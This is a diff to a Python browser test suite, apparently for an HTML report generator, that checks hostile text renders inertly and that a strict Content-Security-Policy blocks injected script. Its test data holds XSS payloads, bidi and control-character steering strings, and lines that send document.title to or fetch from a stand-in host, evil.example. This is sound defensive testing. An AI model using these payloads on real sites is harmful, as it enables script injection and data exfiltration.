@@ -43,7 +43,7 @@ ATTACKS = [
     "a\u2028hit('line')\u2029b",
 ]
 STEERING = "\u202egnp.exe\x1b[2J\x00\u2066"
-HOSTILE_SOURCE = "<img src=x onerror=hit('source')>"
+HOSTILE_SOURCE = "<img src=x onerror=hit('\u202esource')>"
 HOSTILE = {
     "origin": ATTACKS[0] + STEERING,
     "license": ATTACKS[3],
@@ -73,6 +73,7 @@ class Visit:
 
     def __init__(self, browser: Any) -> None:
         self.page = browser.new_page()
+        self.page.set_default_timeout(120_000)  # a loaded machine
         self.complaints: list[str] = []
         self.asked: list[str] = []
         self.page.add_init_script("window.hits = []; window.hit = (what) => window.hits.push(what);")
@@ -446,6 +447,17 @@ def test_what_the_cache_lacks_is_named_and_the_rest_is_shown(repository, tmp_pat
     assert "Every stage, what it made" in text
 
 
+def test_a_broken_file_is_refused_by_its_path_in_the_project(repository, tmp_path):
+    lock, md5 = repository.folder / "dvc.lock", repository.outs()["metrics/evaluate.json"]
+    lock.write_text(lock.read_text().replace(md5, "0" * 32))
+    (repository.folder / "metrics/evaluate.json").unlink()
+    (repository.folder / "metrics/evaluate.json").write_text("{")
+
+    with pytest.raises(Refusal, match=r"^metrics/evaluate\.json "):
+        write_report(repository.folder, tmp_path / "report")
+    assert not (tmp_path / "report").exists()
+
+
 def test_two_reports_of_a_build_are_equal_byte_by_byte_and_small(committed, site, tmp_path):
     write_report(committed.folder, tmp_path / "again")
     write_report(committed.folder, tmp_path / "again")  # over itself
@@ -506,8 +518,8 @@ def test_hostile_text_is_shown_as_the_text_that_it_is(hostile, visit):
         assert attack.replace("\u2028", " ").replace("\u2029", " ") in shown.replace("\u2028", " ").replace(
             "\u2029", " "
         )
-    assert HOSTILE_SOURCE in shown
-    assert not set(STEERING) & {"\u202e", "\x1b", "\x00", "\u2066"} & set(shown)
+    assert HOSTILE_SOURCE.replace("\u202e", "\ufffd") in shown
+    assert not {"\u202e", "\x1b", "\x00", "\u2066"} & set(page.content())
     assert "49" not in page.locator(".samples").inner_text()
 
 
@@ -546,6 +558,7 @@ def test_a_page_allows_its_own_script_and_style_alone(hostile, visit, name):
     assert len(policy) == 1
     assert text.index("Content-Security-Policy") < text.index("<style>")
     assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
+    assert rules["require-trusted-types-for"] == "'script'"
     assert rules["style-src"] == digest(styles[0])
     assert rules["script-src"] == (digest(scripts[0]) if scripts else "'none'")
     assert len(scripts) == (name == "documents.html")
@@ -557,6 +570,7 @@ def test_a_page_allows_its_own_script_and_style_alone(hostile, visit, name):
     [
         "document.body.append(Object.assign(document.createElement('script'), {text: 'hit(1)'}))",
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit(2)>')",
+        "document.body.innerHTML = '<p>forged</p>'",
         "document.body.setAttribute('onclick', 'hit(3)'), document.body.click()",
         "new Image().src = 'https://evil.example/' + document.title",
         "fetch('https://evil.example/')",
